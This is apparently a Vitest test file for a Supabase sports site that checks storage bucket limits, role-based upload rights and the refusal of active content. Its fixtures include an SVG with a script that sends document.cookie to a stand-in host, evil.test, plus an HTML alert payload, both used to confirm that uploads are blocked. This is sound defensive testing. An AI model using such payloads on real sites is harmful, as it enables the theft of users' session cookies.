// Storage policies from 20261122080300_storage.sql and the bucket limits of 20261123100000, through
// the storage API: who may upload where, and what.
import type { SupabaseClient } from '@supabase/supabase-js';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { anonClient, signedInClient, stackEnv } from '../helpers/stack';

type Who = 'anon' | 'player' | 'captain' | 'otherCaptain' | 'editor' | 'admin' | 'blocked';
const WHO: Who[] = ['anon', 'player', 'captain', 'otherCaptain', 'editor', 'admin', 'blocked'];
const clients = {} as Record<Who, SupabaseClient>;
const ids = {} as Record<Who, string>;
let pool: pg.Pool;
let teamA: number;
let n = 0;

const RASTER = ['image/jpeg', 'image/png', 'image/webp', 'image/gif', 'image/avif'];

// a 1×1 PNG
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

async function upload(
  who: Who,
  bucket: string,
  path: string,
  type = 'image/png',
  body: Buffer = PNG,
) {
  return clients[who].storage.from(bucket).upload(path, body, { contentType: type, upsert: false });
}

beforeAll(async () => {
  pool = new pg.Pool({ connectionString: stackEnv().dbUrl, max: 2 });
  teamA = Number(
    (
      await pool.query(`insert into teams (name) values ($1) returning id`, [
        `Storage FC ${Date.now()}`,
      ])
    ).rows[0].id,
  );
  const teamB = Number(
    (
      await pool.query(`insert into teams (name) values ($1) returning id`, [
        `Storage United ${Date.now()}`,
      ])
    ).rows[0].id,
  );
  clients.anon = anonClient() as unknown as SupabaseClient;
  for (const who of WHO.filter((w) => w !== 'anon')) {
    const u = await signedInClient();
    await u.client.rpc('ensure_profile');
    clients[who] = u.client as unknown as SupabaseClient;
    ids[who] = u.userId;
  }
  const set = (who: Who, role: string, status = 'active', team: number | null = null) =>
    pool.query('update profiles set role = $2, status = $3, team_id = $4 where id = $1', [
      ids[who],
      role,
      status,
      team,
    ]);
  await set('admin', 'admin');
  await set('editor', 'editor');
  await set('captain', 'captain', 'active', teamA);
  await set('otherCaptain', 'captain', 'active', teamB);
  await set('player', 'player');
  await set('blocked', 'editor', 'blocked');
});

afterAll(async () => {
  await pool?.end();
});

describe('storage buckets', () => {
  it('exist, public, with size and type limits', async () => {
    const { rows } = await pool.query(
      `select id, public, file_size_limit, allowed_mime_types from storage.buckets
       where id in ('avatars','team-media','player-photos','gallery','branding','articles','venues') order by id`,
    );
    expect(rows.map((r) => r.id)).toEqual([
      'articles',
      'avatars',
      'branding',
      'gallery',
      'player-photos',
      'team-media',
      'venues',
    ]);
    const MiB = 1024 * 1024;
    const limits: Record<string, number> = {
      articles: 5 * MiB,
      avatars: 2 * MiB,
      branding: 2 * MiB,
      gallery: 50 * MiB,
      'player-photos': 5 * MiB,
      'team-media': 5 * MiB,
      venues: 5 * MiB,
    };
    for (const r of rows) {
      expect(r.public).toBe(true);
      expect(Number(r.file_size_limit)).toBe(limits[r.id]);
      // Explicit types only: a wildcard would let image/svg+xml in.
      expect(r.allowed_mime_types).toEqual(
        r.id === 'gallery' ? [...RASTER, 'video/mp4', 'video/webm'] : RASTER,
      );
    }
  });
});

describe('no active content', () => {
  const SVG = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.test/?"+document.cookie)</script></svg>',
  );
  const HTML = Buffer.from('<!doctype html><script>alert(document.domain)</script>');
  const stored = (bucket: string, path: string) =>
    pool.query('select 1 from storage.objects where bucket_id = $1 and name = $2', [bucket, path]);

  it.each(['gallery', 'avatars'])(
    'a player’s SVG with a script is refused in %s, and nothing is stored',
    async (bucket) => {
      const path = `${ids.player}/evil-${++n}.svg`;
      const { error } = await upload('player', bucket, path, 'image/svg+xml', SVG);
      expect(error).toMatchObject({ statusCode: '415' });
      expect((await stored(bucket, path)).rowCount).toBe(0);
    },
  );

  it('no bucket takes SVG, even from an admin', async () => {
    const paths: Record<string, string> = {
      avatars: `${ids.admin}/logo-${++n}.svg`,
      'team-media': `${teamA}/logo-${++n}.svg`,
      'player-photos': `${teamA}/p-${++n}.svg`,
      gallery: `${ids.admin}/g-${++n}.svg`,
      branding: `logo-${++n}.svg`,
      articles: `cover-${++n}.svg`,
      venues: `campo-${++n}.svg`,
    };
    for (const [bucket, path] of Object.entries(paths)) {
      const { error } = await upload('admin', bucket, path, 'image/svg+xml', SVG);
      expect({ bucket, status: error?.statusCode }).toEqual({ bucket, status: '415' });
    }
  });

  it('HTML is refused, whatever the extension', async () => {
    for (const path of [`${ids.player}/page-${++n}.html`, `${ids.player}/page-${++n}.png`]) {
      const { error } = await upload('player', 'gallery', path, 'text/html', HTML);
      expect(error).toMatchObject({ statusCode: '415' });
    }
  });

  it('SVG bytes declared as PNG are stored as declared and served as image/png with nosniff', async () => {
    // Storage checks the declared type, as Supabase's does; what keeps a browser from running
    // the document is that it is only ever served as an image it cannot decode, never sniffed.
    const path = `${ids.player}/disguised-${++n}.png`;
    const { error } = await upload('player', 'gallery', path, 'image/png', SVG);
    expect(error).toBeNull();
    const response = await fetch(
      clients.anon.storage.from('gallery').getPublicUrl(path).data.publicUrl,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('image/png');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('the gallery takes MP4 and WebM videos only', async () => {
    const video = (type: string, ext: string) =>
      upload('player', 'gallery', `${ids.player}/clip-${++n}.${ext}`, type, Buffer.from('0000'));
    expect((await video('video/mp4', 'mp4')).error).toBeNull();
    expect((await video('video/webm', 'webm')).error).toBeNull();
    for (const [type, ext] of [
      ['video/quicktime', 'mov'],
      ['video/x-msvideo', 'avi'],
      ['video/ogg', 'ogv'],
    ]) {
      expect((await video(type, ext)).error).toMatchObject({ statusCode: '415' });
    }
    const inAvatars = await upload(
      'player',
      'avatars',
      `${ids.player}/clip-${++n}.mp4`,
      'video/mp4',
      Buffer.from('0000'),
    );
    expect(inAvatars.error).toMatchObject({ statusCode: '415' });
  });

  it('enforces the size limit: an avatar of 2 MiB is taken, one byte more is refused', async () => {
    const limit = 2 * 1024 * 1024;
    const fits = await upload(
      'player',
      'avatars',
      `${ids.player}/big-${++n}.png`,
      'image/png',
      Buffer.alloc(limit, 1),
    );
    expect(fits.error).toBeNull();
    const path = `${ids.player}/big-${++n}.png`;
    const tooBig = await upload('player', 'avatars', path, 'image/png', Buffer.alloc(limit + 1, 1));
    expect(tooBig.error).toMatchObject({ statusCode: '413' });
    expect((await stored('avatars', path)).rowCount).toBe(0);
  });
});

describe('who may upload where', () => {
  const cases: { bucket: string; path: (who: Who) => string; allowed: Who[] }[] = [
    {
      bucket: 'avatars',
      path: (who) => `${ids[who] ?? 'anon'}/avatar-${++n}.png`,
      allowed: ['player', 'captain', 'otherCaptain', 'editor', 'admin'],
    },
    { bucket: 'avatars', path: () => `${ids.editor}/not-mine-${++n}.png`, allowed: ['editor'] },
    { bucket: 'team-media', path: () => `${teamA}/logo-${++n}.png`, allowed: ['captain', 'admin'] },
    { bucket: 'player-photos', path: () => `${teamA}/p-${++n}.png`, allowed: ['captain', 'admin'] },
    {
      bucket: 'gallery',
      path: (who) => `${ids[who] ?? 'anon'}/g-${++n}.png`,
      allowed: ['player', 'captain', 'otherCaptain', 'editor', 'admin'],
    },
    { bucket: 'branding', path: () => `logo-${++n}.png`, allowed: ['admin'] },
    { bucket: 'articles', path: () => `cover-${++n}.png`, allowed: ['editor', 'admin'] },
    { bucket: 'venues', path: () => `campo-${++n}.png`, allowed: ['admin'] },
  ];
  const rows = cases.flatMap((c, i) =>
    WHO.map((who) => ({ i, bucket: c.bucket, who, expected: c.allowed.includes(who) })),
  );

  it.each(rows)('$bucket #$i as $who → allowed=$expected', async ({ i, who, expected }) => {
    const { error } = await upload(who, cases[i].bucket, cases[i].path(who));
    expect({ ok: !error, error: error?.message }).toMatchObject({ ok: expected });
  });
});

describe('gallery deletes and limits', () => {
  it('the owner or an editor deletes a gallery file; others cannot', async () => {
    const a = `${ids.player}/del-${++n}.png`;
    const b = `${ids.player}/del-${++n}.png`;
    expect((await upload('player', 'gallery', a)).error).toBeNull();
    expect((await upload('player', 'gallery', b)).error).toBeNull();
    await clients.captain.storage.from('gallery').remove([a]);
    const still = await pool.query(
      'select 1 from storage.objects where bucket_id = $1 and name = $2',
      ['gallery', a],
    );
    expect(still.rowCount).toBe(1);
    await clients.player.storage.from('gallery').remove([a]);
    await clients.editor.storage.from('gallery').remove([b]);
    const gone = await pool.query(
      'select 1 from storage.objects where bucket_id = $1 and name = any($2)',
      ['gallery', [a, b]],
    );
    expect(gone.rowCount).toBe(0);
  });

  it('gallery accepts videos; other buckets refuse non-images', async () => {
    const video = await upload(
      'player',
      'gallery',
      `${ids.player}/clip-${++n}.mp4`,
      'video/mp4',
      Buffer.from('0000'),
    );
    expect(video.error).toBeNull();
    const notImage = await upload(
      'player',
      'avatars',
      `${ids.player}/doc-${++n}.pdf`,
      'application/pdf',
      Buffer.from('%PDF'),
    );
    expect(notImage.error).not.toBeNull();
  });
});
